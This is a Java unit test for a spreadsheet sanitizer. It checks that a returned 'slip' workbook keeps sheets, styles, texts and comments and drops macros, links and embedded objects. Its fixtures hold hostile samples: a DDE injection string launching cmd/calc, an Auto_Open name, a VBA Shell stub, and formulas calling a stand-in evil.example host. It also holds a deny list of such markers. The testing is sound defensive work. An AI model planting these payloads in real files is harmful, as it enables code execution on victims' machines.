package shian.slip;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.NavigableMap;
import java.util.Optional;
import java.util.TreeMap;
import java.util.regex.Pattern;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.hssf.record.CommonObjectDataSubRecord;
import org.apache.poi.hssf.record.FormulaRecord;
import org.apache.poi.hssf.record.HyperlinkRecord;
import org.apache.poi.hssf.record.NameRecord;
import org.apache.poi.hssf.record.ObjRecord;
import org.apache.poi.hssf.record.Record;
import org.apache.poi.hssf.record.RecordFactory;
import org.apache.poi.hssf.record.SupBookRecord;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.openxml4j.opc.PackagePart;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.openxml4j.opc.TargetMode;
import org.apache.poi.poifs.filesystem.Entry;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Hyperlink;
import org.apache.poi.ss.usermodel.IndexedColors;
import org.apache.poi.ss.usermodel.Name;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.ss.util.CellRangeAddressList;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import shian.content.Headers;
import shian.message.Message;

/** What a workbook can do to who opens it does not come back with the slip: only a list of parts and records is in one. */
class HostileSlipTest {

    private static final Pattern PARTS = Pattern.compile("\\[Content_Types]\\.xml|_rels/\\.rels|docProps/(app|core)\\.xml"
            + "|xl/(workbook|styles|sharedStrings)\\.xml|xl/_rels/workbook\\.xml\\.rels|xl/worksheets/sheet\\d\\.xml"
            + "|xl/worksheets/_rels/sheet\\d\\.xml\\.rels|xl/comments\\d\\.xml|xl/drawings/(vmlDrawing\\d\\.vml|drawing\\d\\.xml)");
    private static final List<String> NOTHING_OF = List.of("<f>", "<f ", "<hyperlink", "<dataValidation", "<oleObject", "<control", "<definedName",
            "<externalReference", "<conditionalFormatting", "<picture", "<extLst", "<customSheetView", "TargetMode=\"External\"", "macroEnabled",
            "vbaProject", "evil.example", "codeName", "CellAnchor", "<xdr:pic");
    private static final int COMMENT = CommonObjectDataSubRecord.OBJECT_TYPE_COMMENT;

    @TempDir
    private Path folder;

    @Test
    void a_slip_of_a_workbook_with_macros_links_and_objects_has_only_sheets_styles_texts_and_comments() throws Exception {
        Path slip = slip(withMacros(workbook(new XSSFWorkbook())), true);
        try (ZipFile zip = new ZipFile(slip.toFile())) {
            for (ZipEntry entry : Collections.list(zip.entries())) {
                assertThat(entry.getName()).matches(PARTS);
                String part = new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
                assertThat(part).as(entry.getName()).doesNotContain(NOTHING_OF);
            }
        }
    }

    @Test
    void a_slip_of_an_old_workbook_has_no_stream_but_the_workbook_and_no_record_that_does_anything() throws Exception {
        Path slip = slip(withMacros(new POIFSFileSystem(new ByteArrayInputStream(workbook(new HSSFWorkbook())))), false);
        try (POIFSFileSystem files = new POIFSFileSystem(slip.toFile(), true)) {
            List<String> names = new ArrayList<>();
            for (Entry entry : files.getRoot()) {
                names.add(entry.getName());
            }
            assertThat(names).isSubsetOf("Workbook", "\5SummaryInformation", "\5DocumentSummaryInformation");
            for (Record record : RecordFactory.createRecords(files.createDocumentInputStream("Workbook"))) {
                assertThat(record).isNotInstanceOfAny(FormulaRecord.class, HyperlinkRecord.class, NameRecord.class);
                assertThat(record instanceof SupBookRecord book && !book.isInternalReferences()).as("a link to another workbook").isFalse();
                if (record instanceof ObjRecord object) {
                    assertThat(((CommonObjectDataSubRecord) object.getSubRecords().get(0)).getObjectType()).isEqualTo((short) COMMENT);
                }
            }
        }
    }

    @ParameterizedTest
    @ValueSource(booleans = {true, false})
    void what_a_clerk_needs_to_find_her_rows_is_in_it(boolean xlsx) throws Exception {
        try (Workbook slip = WorkbookFactory.create(slip(workbook(xlsx ? new XSSFWorkbook() : new HSSFWorkbook()), xlsx).toFile(), null, true)) {
            assertThat(List.of(slip.getSheetName(0), slip.getSheetName(1), slip.getSheetName(2))).containsExactly("退回说明", "明细", "隐藏");
            assertThat(slip.isSheetHidden(2)).isTrue();
            Sheet sheet = slip.getSheet("明细");
            assertThat(sheet.getColumnWidth(1)).isEqualTo(31 * 256);
            assertThat(sheet.getMergedRegions()).containsExactly(CellRangeAddress.valueOf("A4:B4"));
            assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
            Row row = sheet.getRow(1);
            assertThat(row.getCell(0).getCellType()).isEqualTo(CellType.STRING);
            assertThat(row.getCell(0).getStringCellValue()).isEqualTo("=cmd|' /C calc'!A0");
            assertThat(row.getCell(0).getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(row.getCell(1).getNumericCellValue()).isEqualTo(-5);
            assertThat(row.getCell(2).getNumericCellValue()).as("the value of a formula").isEqualTo(3);
            assertThat(row.getCell(3).getStringCellValue()).as("a text that a formula made").isEqualTo("=1+1");
            assertThat(row.getCell(3).getCellStyle().getQuotePrefixed()).isTrue();
            Cell date = row.getCell(4);
            assertThat(date.getCellStyle().getDataFormatString()).isEqualTo("yyyy\"年\"m\"月\"d\"日\"");
            assertThat(date.getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2021, 3, 15));
            assertThat(slip.getFontAt(date.getCellStyle().getFontIndex()).getBold()).isTrue();
            assertThat(row.getCell(5).getStringCellValue()).isEqualTo("看这里");
            assertThat(row.getCell(5).getHyperlink()).isNull();
            assertThat(sheet.getRow(9).getCell(0).getCellComment().getString().getString()).as("a row without cells").contains("整行");
        }
    }

    private Path slip(byte[] content, boolean xlsx) throws IOException {
        Path file = Files.write(folder.resolve("content"), content);
        Path slip = folder.resolve(xlsx ? "slip.xlsx" : "slip.xls");
        Flaw flaw = new Flaw("", "", "", Message.of("load.column-missing-everywhere"));
        NavigableMap<Integer, List<Flaw>> rows = new TreeMap<>(java.util.Map.of(2, List.of(flaw), 10, List.of(flaw)));
        try (OutputStream out = Files.newOutputStream(slip)) {
            MarkedWorkbook.write(file, xlsx, new Slip(1, "REFUSED", "a/b.xlsx", "", "0", OffsetDateTime.parse("2022-06-06T01:00:00+08:00"),
                    Optional.empty(), "", null, null, Optional.empty(), List.of(), rows, List.of(), Optional.empty()), "明细",
                    new Placement(Headers.none()), out);
        }
        return slip;
    }

    private static byte[] workbook(Workbook workbook) throws IOException {
        try (workbook; ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Sheet sheet = workbook.createSheet("明细");
            sheet.setColumnWidth(1, 31 * 256);
            sheet.createRow(0).createCell(0).setCellValue("样品");
            sheet.createFreezePane(0, 1);
            Row row = sheet.createRow(1);
            row.createCell(0).setCellValue("=cmd|' /C calc'!A0");
            row.createCell(1).setCellValue(-5);
            row.createCell(2).setCellFormula("1+2");
            row.createCell(3).setCellFormula("\"=1+1\"");
            workbook.getCreationHelper().createFormulaEvaluator().evaluateAll();
            Cell date = row.createCell(4);
            date.setCellValue(LocalDate.of(2021, 3, 15));
            CellStyle style = workbook.createCellStyle();
            style.setDataFormat(workbook.createDataFormat().getFormat("yyyy\"年\"m\"月\"d\"日\""));
            style.setFont(workbook.createFont());
            workbook.getFontAt(style.getFontIndex()).setBold(true);
            style.setFillForegroundColor(IndexedColors.LIGHT_GREEN.getIndex());
            date.setCellStyle(style);
            Cell linked = row.createCell(5);
            linked.setCellValue("看这里");
            Hyperlink link = workbook.getCreationHelper().createHyperlink(HyperlinkType.URL);
            link.setAddress("http://evil.example/");
            linked.setHyperlink(link);
            sheet.createRow(3).createCell(0).setCellValue("合并");
            sheet.addMergedRegion(CellRangeAddress.valueOf("A4:B4"));
            sheet.addValidationData(sheet.getDataValidationHelper().createValidation(sheet.getDataValidationHelper()
                    .createFormulaListConstraint("INDIRECT(\"http://evil.example/\"&A1)"), new CellRangeAddressList(0, 5, 0, 0)));
            Name name = workbook.createName();
            name.setNameName("Auto_Open");
            name.setRefersToFormula("HYPERLINK(\"http://evil.example/\")");
            int picture = workbook.addPicture(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10}, Workbook.PICTURE_TYPE_PNG);
            sheet.createDrawingPatriarch().createPicture(workbook.getCreationHelper().createClientAnchor(), picture);
            workbook.createSheet("隐藏").createRow(0).createCell(0).setCellValue("x");
            workbook.setSheetHidden(1, true);
            workbook.write(out);
            return out.toByteArray();
        }
    }

    /** The same with a macro project and with parts that Excel reads beside the sheets, related as Excel relates them. */
    private static byte[] withMacros(byte[] workbook) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        String office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        String type = "application/vnd.openxmlformats-officedocument.spreadsheetml.";
        try (OPCPackage files = OPCPackage.open(new ByteArrayInputStream(workbook))) {
            PackagePart main = files.getPart(PackagingURIHelper.createPartName("/xl/workbook.xml"));
            PackagePart sheet = files.getPart(PackagingURIHelper.createPartName("/xl/worksheets/sheet1.xml"));
            add(files, main, "/xl/vbaProject.bin", "application/vnd.ms-office.vbaProject",
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject");
            add(files, main, "/xl/externalLinks/externalLink1.xml", type + "externalLink+xml", office + "externalLink",
                    "<externalLink xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><ddeLink ddeService='cmd' "
                    + "ddeTopic='/C calc'><ddeItems><ddeItem name='A0'/></ddeItems></ddeLink></externalLink>");
            add(files, main, "/xl/connections.xml", type + "connections+xml", office + "connections");
            add(files, main, "/customXml/item1.xml", "application/xml", office + "customXml");
            add(files, sheet, "/xl/queryTables/queryTable1.xml", type + "queryTable+xml", office + "queryTable");
            add(files, sheet, "/xl/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", office + "oleObject");
            add(files, sheet, "/xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", office + "control");
            sheet.addExternalRelationship("http://evil.example/picture", office + "image");
            files.save(out);
        }
        return out.toByteArray();
    }

    private static void add(OPCPackage files, PackagePart of, String name, String type, String relation) throws Exception {
        add(files, of, name, type, relation, "<x xmlns='http://evil.example/'/>");
    }

    private static void add(OPCPackage files, PackagePart of, String name, String type, String relation, String text) throws Exception {
        PackagePart part = files.createPart(PackagingURIHelper.createPartName(name), type);
        try (OutputStream out = part.getOutputStream()) {
            out.write(text.getBytes(StandardCharsets.UTF_8));
        }
        of.addRelationship(part.getPartName(), TargetMode.INTERNAL, relation);
    }

    private static byte[] withMacros(POIFSFileSystem files) throws IOException {
        try (files; ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            files.getRoot().createDirectory("_VBA_PROJECT_CUR").createDirectory("VBA")
                    .createDocument("ThisWorkbook", new ByteArrayInputStream("Shell \"calc\"".getBytes(StandardCharsets.US_ASCII)));
            files.getRoot().createDirectory("MBD0001A2B3").createDocument("\1Ole10Native", new ByteArrayInputStream(new byte[64]));
            files.writeFilesystem(out);
            return out.toByteArray();
        }
    }
}
